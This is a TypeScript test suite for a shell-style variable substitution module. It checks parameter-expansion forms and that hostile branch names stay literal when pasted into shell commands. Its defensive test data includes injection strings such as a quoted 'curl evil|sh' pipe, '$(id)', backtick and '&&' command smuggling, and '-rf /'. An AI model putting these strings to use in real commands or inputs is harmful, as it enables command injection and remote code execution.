import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import fc from 'fast-check';
import { substituteInCommand, substituteInValue } from './substitution.ts';

const variables = {
  BRANCH: 'feature/Big-Thing',
  TAG: 'v1.2.3',
  FILE: 'path/to/file.tar.gz',
  EMPTY: '',
};
const forms: [text: string, expected: string][] = [
  ['${TAG}', 'v1.2.3'],
  ['${TAG##v}', '1.2.3'],
  ['${TAG%.*}', 'v1.2'],
  ['${TAG%%.*}', 'v1'],
  ['${FILE##*/}', 'file.tar.gz'],
  ['${FILE#*/}', 'to/file.tar.gz'],
  ['${BRANCH:0:7}', 'feature'],
  ['${BRANCH:8}', 'Big-Thing'],
  ['${BRANCH: -5}', 'Thing'],
  ['${BRANCH//\\//-}', 'feature-Big-Thing'],
  ['${BRANCH/Big/Small}', 'feature/Small-Thing'],
  ['${TAG/#v/r}', 'r1.2.3'],
  ['${TAG/%.3/.4}', 'v1.2.4'],
  ['${BRANCH^^}', 'FEATURE/BIG-THING'],
  ['${BRANCH,,}', 'feature/big-thing'],
  ['${TAG^}', 'V1.2.3'],
  ['${#TAG}', '6'],
  ['${EMPTY:-latest}', 'latest'],
  ['${EMPTY=latest}', 'latest'],
  ['${UNKNOWN:-main-${TAG##v}}', 'main-1.2.3'],
  ['${UNKNOWN}', ''],
  ['$${TAG} $$HOME', '${TAG} $HOME'],
  ['$TAG stays for the shell', '$TAG stays for the shell'],
  ['a \\\\. b \\/ c \\n', 'a \\. b / c \\n'],
  ['${TAG[0]} ${!x}', '${TAG[0]} ${!x}'],
];
for (const [text, expected] of forms) {
  test(`a value: ${text} is ${expected}`, () => {
    assert.equal(substituteInValue(text, variables), expected);
  });
}

const noSpill = (): string => assert.fail('nothing is to be kept aside');

test('in a command the shell keeps the names that are not the run’s', () => {
  const text = 'echo ${HOME:-x} ${TAG} ${arr[@]}';
  assert.equal(substituteInCommand(text, variables, noSpill), 'echo ${HOME:-x} v1.2.3 ${arr[@]}');
});

const hostile = [
  'x";curl evil|sh;"',
  'first\nsteps: [evil]',
  '$(id)',
  '`id`',
  "' && id '",
  '* ?',
  '-rf /',
];

test('no branch name is read by a shell as anything but text', () => {
  for (const value of hostile) {
    const kept: Record<string, string> = { BRANCH: value };
    const spill = (text: string): string => {
      kept['KEPT'] = text;
      return 'KEPT';
    };
    for (const reference of ['${BRANCH}', '${BRANCH:0:200}', '${BRANCH//no such/thing}']) {
      const script = substituteInCommand(`printf %s "${reference}"`, { BRANCH: value }, spill);
      const said = execFileSync('/bin/sh', ['-c', script], { env: kept, encoding: 'utf8' });
      assert.equal(said, value, reference);
    }
  }
});

test('whatever a value is, a command keeps its words: it is pasted only when no shell can read anything into it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (value) => {
      const spilled: string[] = [];
      const command = substituteInCommand('run "${V}" ${V:0:3} end', { V: value }, (text) => {
        spilled.push(text);
        return 'KEPT';
      });
      const plain = /^[A-Za-z0-9._/:@+-]*$/;
      const [whole, part] = [value, value.slice(0, 3)];
      assert.equal(
        command,
        `run "${plain.test(whole) ? whole : '${V}'}" ${plain.test(part) ? part : '${KEPT}'} end`,
      );
      assert.deepEqual(spilled, plain.test(part) ? [] : [part]);
    }),
  );
});

test('any text is substituted without a crash, and a value that names others is not read again', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.string(), (text, value) => {
      assert.equal(typeof substituteInValue(text, { V: value }), 'string');
      assert.equal(substituteInValue('${V}', { V: value, W: 'other' }), value);
    }),
  );
});
